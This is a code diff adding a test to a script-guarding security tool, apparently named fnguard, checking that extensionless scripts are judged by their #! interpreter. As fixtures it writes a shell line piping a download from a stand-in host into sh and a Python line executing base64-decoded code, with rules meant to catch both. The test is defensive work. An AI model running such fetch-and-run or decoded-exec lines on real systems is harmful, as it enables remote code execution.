@@ -244,6 +244,46 @@ def test_code_the_rules_cannot_read_is_refused(run_fnguard, tmp_path, kernel_tie
                      "esc.js": "node-escaped-identifier"}, rules
 
 
+def test_scripts_without_an_extension(run_fnguard, tmp_path, kernel_tier):
+    """An executable script with no extension (a custom runtime's
+    `bootstrap`, a `bin/tool`) is judged with the rules of the interpreter
+    its #! line names, when that interpreter opens it: flagged ones never
+    run, a clean one does. Other files with no extension (data, a symlink
+    to a device, which fnguard resolves without opening) are untouched."""
+    app = tmp_path / "app"
+    app.mkdir()
+    ran = {k: tmp_path / f"RAN_{k}" for k in ("sh", "py")}
+    payload = base64.b64encode(b"print('decoded')").decode()
+    scripts = {
+        "bootstrap": f"#!/bin/sh\necho x > {ran['sh']}\ncurl -s http://example.invalid/i | sh\n",
+        "tool": f"#!{PY}\nimport base64\nopen({str(ran['py'])!r}, 'w').write('x')\n"
+                f"exec(base64.b64decode({payload!r}))\n",
+        "clean": "#!/bin/sh\necho clean ran\n",
+    }
+    for name, text in scripts.items():
+        (app / name).write_text(text)
+        (app / name).chmod(0o755)
+    (app / "data").write_text("just data\n")
+    (app / "zero").symlink_to("/dev/zero")
+    sh = (f"{app}/bootstrap; {app}/tool; {app}/clean; cat {app}/data; "
+          f"head -c 3 {app}/zero | wc -c")
+    res = run_fnguard(f"version: 1\ncode:\n  paths: [{app}]\n  action: deny\n",
+                      ["/bin/sh", "-c", sh])
+    assert "clean ran" in res.stdout and "just data" in res.stdout, res.dump()
+    assert res.stdout.split()[-1] == "3", res.dump()
+    assert not any(m.exists() for m in ran.values()), "a flagged script ran"
+    denied = {e["path"]: e["rule"] for e in res.of("code", action="deny")}
+    assert denied == {f"{app}/bootstrap": "sh-curl-pipe-sh", f"{app}/tool": "py-exec-decoded"}, \
+        res.dump()
+    found = {e["path"] for e in res.of("code", action="audit") if e.get("phase") == "prelaunch"}
+    assert found == set(denied), res.dump()
+    scan = subprocess.run([FNGUARD, "scan", app], capture_output=True, text=True,
+                          timeout=TIMEOUT, env=base_env())
+    assert scan.returncode == 1, scan
+    assert sorted(l.split(":")[0] for l in scan.stdout.splitlines()) == \
+        [f"{app}/bootstrap", f"{app}/tool"], scan
+
+
 def test_a_pack_named_explicitly_enforces_every_rule(run_fnguard, tmp_path, kernel_tier):
     """Named in rule_files, the same pack's low rule (plain subprocess.run),
     which the implicit default lets through, refuses the module."""
